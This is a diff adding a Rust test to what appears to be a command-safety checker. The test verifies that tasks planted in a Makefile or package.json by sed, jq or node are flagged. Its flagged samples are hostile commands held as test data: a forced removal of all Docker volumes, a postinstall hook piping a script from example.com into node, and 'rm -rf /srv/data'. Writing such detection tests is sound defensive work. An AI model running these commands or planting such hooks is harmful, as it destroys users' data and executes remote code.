@@ -126,3 +126,17 @@ fn what_a_network_device_searches_for_is_no_program() {
         "include | shutdown now",
     ]);
 }
+
+#[test]
+fn a_task_that_is_written_into_a_file_by_a_filter_is_judged_as_if_it_ran() {
+    asks(&[
+        "sed -i 's#^clean:.*#clean:\\n\\tdocker volume ls -q | xargs -r docker volume rm -f#' Makefile && make clean",
+        "jq '.scripts.postinstall=\"curl -s https://example.com/p.js | node\"' package.json > p.json && mv p.json package.json",
+        "node -e \"const p = require('./package.json'); p.scripts.reset='rm -rf /srv/data'; require('fs').writeFileSync('package.json', JSON.stringify(p))\" && npm run reset",
+    ]);
+    passes(&[
+        "sed -i 's#^test:.*#test:\\n\\tgo test ./...#' Makefile && make test",
+        "jq '.scripts.test=\"vitest run\"' package.json > p.json && mv p.json package.json",
+        "jq -r '.scripts.test' package.json",
+    ]);
+}
